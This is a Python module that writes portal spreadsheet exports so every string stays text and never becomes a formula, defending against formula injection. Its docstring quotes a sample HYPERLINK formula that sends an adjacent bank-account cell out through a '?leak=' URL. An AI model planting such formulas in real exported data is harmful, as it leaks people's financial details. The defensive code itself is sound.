"""Cells for every workbook the portal writes (SPEC.md "Exports"): a text cell is always text.

openpyxl turns a string that starts with ``=`` into a formula, and Excel or WPS would evaluate
``=HYPERLINK("http://…/?leak="&F2, …)`` typed as a unit's name beside the bank-account column. Every
writer appends its rows through :func:`row`, which makes each string a :func:`text_cell`: stored as a
string (never a formula), marked with Excel's quote prefix when it starts with ``= + - @`` or a control
character (so editing the cell keeps it text too), and stripped of the control characters a workbook cannot
hold (openpyxl would refuse the whole export for one of them).
"""

from __future__ import annotations

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")


def as_text(cell, value):
    """Makes ``cell`` (of a write-only or an ordinary sheet) hold ``value`` as text; returns it."""
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell._value = text
    cell.data_type = "s"
    if str(value).startswith(FORMULA_LEADS) or str(value)[:1] < " " and str(value):
        cell.quotePrefix = True
    return cell


def text_cell(sheet, value, **style) -> WriteOnlyCell:
    """``value`` (any text) as a string cell of ``sheet``; ``style``: cell attributes such as ``font``."""
    cell = as_text(WriteOnlyCell(sheet), value)
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def row(sheet, values) -> list:
    """A row for ``sheet.append``: strings become text cells; numbers, dates and prepared cells stay
    as they are (a prepared cell holding a string is made a text cell again)."""
    out = []
    for value in values:
        if isinstance(value, str):
            out.append(text_cell(sheet, value))
        elif isinstance(value, Cell) and isinstance(value.value, str):
            cell = text_cell(sheet, value.value)
            cell.font, cell.number_format = value.font, value.number_format
            out.append(cell)
        else:
            out.append(value)
    return out
